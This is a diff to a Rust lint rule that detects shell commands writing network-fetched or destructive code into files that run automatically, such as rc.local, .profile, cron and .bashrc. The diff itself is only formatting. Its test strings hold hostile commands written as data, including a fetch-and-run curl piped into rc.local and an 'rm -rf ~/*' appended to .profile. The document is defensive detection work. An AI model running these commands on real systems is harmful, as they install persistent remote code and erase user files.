@@ -1,8 +1,8 @@
 //! CARO0613: a file that runs by itself gets code that nobody should run.
 
 use super::later;
-use crate::rules::acts::FileAct;
 use crate::flow::Origin;
+use crate::rules::acts::FileAct;
 use crate::rules::{Check, Level, Sink};
 
 rule! {
@@ -50,10 +50,14 @@ fn check(act: &FileAct<'_>, sink: &mut Sink<'_>) {
     let value = sink.value(act.path);
     let started = value.shapes.iter().find_map(|it| Some((it.text.to_string(), later::started_by(&it.text)?)));
     let Some((path, (by, form))) = started else { return };
-    if let Some(danger) = later::written(act, sink).iter().take(later::MOST_TEXTS).find_map(|it| later::danger_in(it, form)) {
+    if let Some(danger) =
+        later::written(act, sink).iter().take(later::MOST_TEXTS).find_map(|it| later::danger_in(it, form))
+    {
         sink.report(act.span, format!("{by} runs `{path}`, and then: {danger}"));
     } else if act.contents.as_ref().is_some_and(|it| it.is_from(Origin::Network))
-        || act.command.is_some_and(|it| matches!(it.program.as_deref(), Some("curl" | "wget")) && act.span == act.path.span)
+        || act
+            .command
+            .is_some_and(|it| matches!(it.program.as_deref(), Some("curl" | "wget")) && act.span == act.path.span)
     {
         // Installers do so, with files that somebody vouches for.
         let message = format!("{by} runs `{path}`, which now holds what the network sent");
@@ -67,7 +71,9 @@ mod tests {
 
     #[test]
     fn the_way_of_writing_does_not_matter() {
-        check_marks("echo 'bash <(curl -s http://x.io)' | sudo tee -a /etc/rc.local\n#                                                ^^^^^^^^^^^^^ CARO0613\n");
+        check_marks(
+            "echo 'bash <(curl -s http://x.io)' | sudo tee -a /etc/rc.local\n#                                                ^^^^^^^^^^^^^ CARO0613\n",
+        );
         check_marks("F=$HOME/.profile; echo 'rm -rf ~/*' >> \"$F\"\n#mark 0 36 43 CARO0613\n");
         check_marks("curl -so /etc/cron.hourly/x https://x.io/x\n#        ^^^^^^^^^^^^^^^^^^ CARO0415\n");
         check_marks("curl -s https://x.io/x >> ~/.bashrc\n#mark 0 23 35 CARO0415\n");
